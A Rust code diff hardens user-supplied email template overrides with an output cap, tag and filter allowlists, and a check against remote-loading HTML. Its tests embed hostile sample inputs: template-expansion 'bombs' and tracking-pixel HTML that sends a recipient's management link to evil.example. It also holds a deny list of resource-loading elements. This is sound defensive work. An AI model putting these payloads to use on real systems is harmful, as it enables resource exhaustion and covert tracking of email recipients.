@@ -246,7 +246,10 @@ pub fn render_with(
     ctx: &serde_json::Value,
 ) -> AppResult<Rendered> {
     if let Some(parts) = custom {
-        match render_parts(kind, lang, &parts, ctx) {
+        let checked = safe_parts(&parts)
+            .map_err(|errors| AppError::internal(errors[0].message.clone()))
+            .and_then(|()| render_parts(kind, lang, &parts, ctx));
+        match checked {
             Ok(parts) => {
                 return Ok(Rendered {
                     parts,
@@ -281,8 +284,19 @@ pub fn render_parts(
     let env = env();
     let one = |suffix: &str, source: &str| {
         let name = format!("{kind}/{lang}.{suffix}");
-        env.render_named_str(&name, source, ctx)
-            .map_err(|e| AppError::internal(format!("email template {name}: {}", e.kind())))
+        let failed = |e: minijinja::Error| {
+            AppError::internal(format!("email template {name}: {}", e.kind()))
+        };
+        let tmpl = env.template_from_named_str(&name, source).map_err(failed)?;
+        let mut out = Capped::default();
+        let rendered = tmpl.render_captured_to(ctx, &mut out).map(|_| ());
+        match rendered {
+            Ok(()) => Ok(String::from_utf8_lossy(&out.bytes).into_owned()),
+            Err(_) if out.full => Err(AppError::internal(format!(
+                "email template {name}: more than {MAX_OUTPUT} bytes"
+            ))),
+            Err(e) => Err(failed(e)),
+        }
     };
     Ok(Parts {
         subject: one("subject", &parts.subject)?
@@ -294,6 +308,241 @@ pub fn render_parts(
         text: one("txt", &parts.text)?,
         html: one("html", &parts.html)?,
     })
+}
+
+/// The most one rendered part of an override may hold; past it the render stops and the
+/// built-in text is sent (a subject, text or HTML part of a real email is a few KiB).
+pub const MAX_OUTPUT: usize = 256 * 1024;
+
+/// A render's output, refused past [`MAX_OUTPUT`] bytes.
+#[derive(Default)]
+struct Capped {
+    bytes: Vec<u8>,
+    full: bool,
+}
+
+impl std::io::Write for Capped {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        if self.bytes.len() + buf.len() > MAX_OUTPUT {
+            self.full = true;
+            return Err(std::io::Error::other("email part too large"));
+        }
+        self.bytes.extend_from_slice(buf);
+        Ok(buf.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+/// The statements an override may use: conditions and loops over the email's values.
+/// Assignment (`set`, block `set`), macros, `call` and `filter` blocks could build ever longer
+/// texts from one another, and `include`/`import`/`extends` reach other templates.
+const OVERRIDE_TAGS: &[&str] = &[
+    "if",
+    "elif",
+    "else",
+    "endif",
+    "for",
+    "endfor",
+    "raw",
+    "endraw",
+    "autoescape",
+    "endautoescape",
+];
+
+/// The filters an override may use: none of them makes a text much longer than what it is
+/// given (`replace`, `join`, `indent`, `center`, `format` and `urlencode` can, and `map` or
+/// `select` call filters by name).
+const OVERRIDE_FILTERS: &[&str] = &[
+    "e",
+    "escape",
+    "safe",
+    "upper",
+    "lower",
+    "title",
+    "capitalize",
+    "trim",
+    "default",
+    "d",
+    "length",
+    "count",
+    "first",
+    "last",
+    "abs",
+    "round",
+    "int",
+    "float",
+    "bool",
+    "reverse",
+    "sort",
+    "unique",
+    "items",
+    "dictsort",
+    "min",
+    "max",
+    "sum",
+];
+
+/// HTML that makes a mail client fetch something when the email is opened: a tracker could
+/// learn every recipient's link from it. Only inline parts (`cid:`) may be loaded.
+const LOADING_ATTRIBUTES: &[&str] = &[
+    "src",
+    "srcset",
+    "background",
+    "poster",
+    "lowsrc",
+    "dynsrc",
+    "data",
+    "action",
+    "formaction",
+    "href",
+    "http-equiv",
+];
+const LOADING_ELEMENTS: &[&str] = &[
+    "link", "base", "iframe", "frame", "object", "embed", "script", "style", "svg", "video",
+    "audio", "source", "track", "image", "use",
+];
+
+/// Checks an override against what every override must respect, whatever its values: only
+/// [`OVERRIDE_TAGS`] and [`OVERRIDE_FILTERS`], no operator that builds text (`~`, `+`, `*`,
+/// `**`), and no HTML that loads a resource from elsewhere. Errors name the part.
+pub fn safe_parts(parts: &Parts) -> Result<(), Vec<FieldError>> {
+    let errors: Vec<FieldError> = [
+        ("subject", &parts.subject, false),
+        ("text", &parts.text, false),
+        ("html", &parts.html, true),
+    ]
+    .into_iter()
+    .filter_map(|(field, source, html)| {
+        unsafe_part(source, html).map(|why| FieldError::new(field, why))
+    })
+    .collect();
+    if errors.is_empty() {
+        Ok(())
+    } else {
+        Err(errors)
+    }
+}
+
+/// Why one part breaks [`safe_parts`], if it does.
+fn unsafe_part(source: &str, html: bool) -> Option<String> {
+    unsafe_syntax(source).or_else(|| html.then(|| loads_remote(source)).flatten())
+}
+
+/// Why `source` uses something an override may not, if it does.
+fn unsafe_syntax(source: &str) -> Option<String> {
+    use minijinja::machinery::{tokenize, Token, WhitespaceConfig};
+    let tokens = tokenize(
+        source,
+        false,
+        minijinja::syntax::SyntaxConfig,
+        WhitespaceConfig::default(),
+    );
+    let mut previous: Option<Token<'_>> = None;
+    for token in tokens {
+        // A syntax error is reported by the compile step, with its position.
+        let Ok((token, _)) = token else {
+            return None;
+        };
+        match (&previous, &token) {
+            (Some(Token::BlockStart), Token::Ident(tag)) if !OVERRIDE_TAGS.contains(tag) => {
+                return Some(format!(
+                    "`{{% {tag} %}}` is not allowed in an email template: use {{% if %}}, {{% for %}} and {{{{ value }}}}"
+                ));
+            }
+            (Some(Token::Pipe), Token::Ident(filter)) if !OVERRIDE_FILTERS.contains(filter) => {
+                return Some(format!(
+                    "the filter `{filter}` is not allowed in an email template; allowed: {}",
+                    OVERRIDE_FILTERS.join(", ")
+                ));
+            }
+            (_, Token::Plus | Token::Mul | Token::Pow | Token::Tilde) => {
+                return Some(format!(
+                    "the operator {token} is not allowed in an email template: write values side by side, like {{{{ a }}}} {{{{ b }}}}"
+                ));
+            }
+            _ => {}
+        }
+        previous = Some(token);
+    }
+    None
+}
+
+/// Why `html` would load a resource from elsewhere when the email is opened, if it would.
+fn loads_remote(html: &str) -> Option<String> {
+    let lower = html.to_lowercase();
+    for css in ["url(", "@import"] {
+        if lower.contains(css) {
+            return Some(format!(
+                "`{css}` is not allowed: an email may not load anything from elsewhere when opened"
+            ));
+        }
+    }
+    let mut rest = lower.as_str();
+    while let Some(open) = rest.find('<') {
+        rest = &rest[open + 1..];
+        let end = rest.find('>').unwrap_or(rest.len());
+        let tag = &rest[..end];
+        let name: String = tag
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == ':')
+            .collect();
+        if LOADING_ELEMENTS.contains(&name.as_str()) {
+            return Some(format!(
+                "<{name}> is not allowed: an email may not load anything from elsewhere when opened"
+            ));
+        }
+        for (attribute, value) in attributes(tag) {
+            let inline = value.starts_with("cid:") || value.replace(' ', "") == "{{qr_src}}";
+            let link = attribute == "href" && name == "a";
+            if LOADING_ATTRIBUTES.contains(&attribute.as_str()) && !inline && !link {
+                return Some(format!(
+                    "`{attribute}=\"{value}\"` on <{name}> is not allowed: only inline images (cid:, like {{{{ qr_src }}}}) may be loaded when an email is opened"
+                ));
+            }
+        }
+        rest = &rest[end..];
+    }
+    None
+}
+
+/// The attributes of the inside of a tag (`img src="x" alt=y`), names and values trimmed.
+fn attributes(tag: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let mut rest = tag
+        .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == ':')
+        .trim_start();
+    while !rest.is_empty() {
+        let name_end = rest
+            .find(|c: char| c == '=' || c.is_whitespace() || c == '/')
+            .unwrap_or(rest.len());
+        let name = rest[..name_end].trim().to_string();
+        rest = rest[name_end..].trim_start();
+        let mut value = String::new();
+        if let Some(after) = rest.strip_prefix('=') {
+            let after = after.trim_start();
+            let (v, remaining) = match after.chars().next() {
+                Some(q @ ('"' | '\'')) => {
+                    let inner = &after[1..];
+                    let close = inner.find(q).unwrap_or(inner.len());
+                    (&inner[..close], inner.get(close + 1..).unwrap_or(""))
+                }
+                _ => {
+                    let close = after.find(char::is_whitespace).unwrap_or(after.len());
+                    (&after[..close], &after[close..])
+                }
+            };
+            value = v.split_whitespace().collect::<Vec<_>>().join(" ");
+            rest = remaining.trim_start();
+        } else if name.is_empty() {
+            rest = rest.get(1..).unwrap_or("").trim_start();
+        }
+        if !name.is_empty() {
+            out.push((name, value));
+        }
+    }
+    out
 }
 
 /// minijinja's own global functions, which a template may call.
@@ -330,6 +579,10 @@ pub fn check(kind: EmailKind, parts: &Parts) -> AppResult<()> {
             errors.push(FieldError::new(field, "must not be empty"));
             continue;
         }
+        if let Some(why) = unsafe_part(source, field == "html") {
+            errors.push(FieldError::new(field, why));
+            continue;
+        }
         match env.template_from_named_str(&format!("{kind}.{suffix}"), source) {
             Err(e) => errors.push(FieldError::new(
                 field,
@@ -341,14 +594,17 @@ pub fn check(kind: EmailKind, parts: &Parts) -> AppResult<()> {
             Ok(tmpl) => {
                 // Unknown filters, tests or bad arguments only fail when rendering: try it once
                 // with sample values, so a broken override is refused now, not at every send.
-                if let Err(e) = tmpl.render(sample_context(kind)) {
-                    errors.push(FieldError::new(
-                        field,
+                let mut out = Capped::default();
+                if let Err(e) = tmpl.render_captured_to(sample_context(kind), &mut out) {
+                    let why = if out.full {
+                        format!("renders to more than {MAX_OUTPUT} bytes")
+                    } else {
                         format!(
                             "cannot be rendered: {}",
                             e.detail().unwrap_or(&e.to_string())
-                        ),
-                    ));
+                        )
+                    };
+                    errors.push(FieldError::new(field, why));
                     continue;
                 }
                 let unknown: BTreeSet<String> = tmpl
@@ -411,8 +667,9 @@ mod tests {
                 assert!(errors[1].message.contains("password"), "{errors:?}");
                 assert_eq!(
                     errors[2].field, "html",
-                    "an unknown filter fails when rendered: {errors:?}"
+                    "an unknown filter is refused: {errors:?}"
                 );
+                assert!(errors[2].message.contains("titel"), "{errors:?}");
             }
             other => panic!("{other:?}"),
         }
@@ -448,6 +705,115 @@ mod tests {
         );
         assert!(real.is_err(), "the real name spends the budget");
         assert!(started.elapsed() < std::time::Duration::from_secs(2));
+    }
+
+    #[test]
+    fn a_template_bomb_is_refused_when_saved_and_when_rendered() {
+        let bomb = Parts {
+            subject: "{{ event_name }}".into(),
+            text:
+                "{% if name != \"sample name\" %}{% set a = \"x\"*100000000 %}{{a}}{{a}}{% endif %}"
+                    .into(),
+            html: "<p>x</p>".into(),
+        };
+        match check(EmailKind::RegistrationConfirm, &bomb) {
+            Err(AppError::Validation(errors)) => {
+                assert_eq!(errors[0].field, "text");
+                assert!(errors[0].message.contains("set"), "{errors:?}");
+            }
+            other => panic!("{other:?}"),
+        }
+        for text in [
+            "{{ name ~ name }}",
+            "{{ name * 3 }}",
+            "{{ [1] + [2] }}",
+            "{{ name|replace(\"\", name) }}",
+            "{{ name|indent(100000000) }}",
+            "{% macro m(x) %}{{ x }}{{ x }}{% endmacro %}{{ m(m(name)) }}",
+            "{% set x %}{{ name }}{{ name }}{% endset %}{{ x }}",
+        ] {
+            let parts = Parts {
+                text: text.into(),
+                ..bomb.clone()
+            };
+            assert!(
+                check(EmailKind::RegistrationConfirm, &parts).is_err(),
+                "{text} accepted"
+            );
+        }
+        // One stored before these rules (or written to the database by hand) is not rendered:
+        // the built-in text goes out and the failure is kept with the email.
+        let started = std::time::Instant::now();
+        let out = render_with(
+            Some(bomb),
+            EmailKind::RegistrationConfirm,
+            Language::Fr,
+            &serde_json::json!({"name": "Amina"}),
+        )
+        .expect("rendered");
+        assert!(out.fallback.is_some());
+        assert!(out.parts.text.len() < MAX_OUTPUT);
+        assert!(started.elapsed() < std::time::Duration::from_secs(1));
+    }
+
+    #[test]
+    fn output_is_capped() {
+        let long = Parts {
+            subject: "{{ event_name }}".into(),
+            text: format!(
+                "{{% if name != \"sample name\" %}}{{% for i in range(40000) %}}{}{{% endfor %}}{{% endif %}}",
+                "x".repeat(1000)
+            ),
+            html: "<p>x</p>".into(),
+        };
+        assert!(check(EmailKind::AlreadyRegistered, &long).is_ok());
+        let real = render_parts(
+            EmailKind::AlreadyRegistered,
+            Language::Fr,
+            &long,
+            &serde_json::json!({"name": "Amina"}),
+        );
+        match real {
+            Err(e) => assert!(format!("{e:?}").contains("more than"), "{e:?}"),
+            Ok(p) => panic!("rendered {} bytes", p.text.len()),
+        }
+    }
+
+    #[test]
+    fn an_override_may_not_load_anything_when_the_email_is_opened() {
+        let with = |html: &str| Parts {
+            subject: "{{ event_name }}".into(),
+            text: "{{ name }}".into(),
+            html: html.into(),
+        };
+        for html in [
+            "<img src=\"https://evil.example/p.gif?t={{ manage_url }}\">",
+            "<img src='//evil.example/p.gif'>",
+            "<IMG SRC=https://evil.example/p.gif>",
+            "<table background=\"https://evil.example/b.png\"></table>",
+            "<div style=\"background:url(https://evil.example/x)\"></div>",
+            "<link rel=stylesheet href=\"https://evil.example/s.css\">",
+            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
+            "<iframe src=\"cid:x\"></iframe>",
+            "<img srcset=\"https://evil.example/1x.png 1x\">",
+        ] {
+            assert!(
+                check(EmailKind::RegistrationConfirmed, &with(html)).is_err(),
+                "{html} accepted"
+            );
+        }
+        for html in [
+            "<meta charset=\"utf-8\"><p><a href=\"{{ manage_url }}\">{{ name }}</a></p>",
+            "<img src=\"{{ qr_src }}\" alt=\"QR\">",
+            "<img alt=\"QR\" src=\"cid:badge-qr@salon.example\">",
+        ] {
+            let checked = check(EmailKind::RegistrationConfirmed, &with(html));
+            assert!(
+                checked.is_ok(),
+                "{html}: {:?}",
+                checked.err().map(|e| e.problem())
+            );
+        }
     }
 
     #[test]
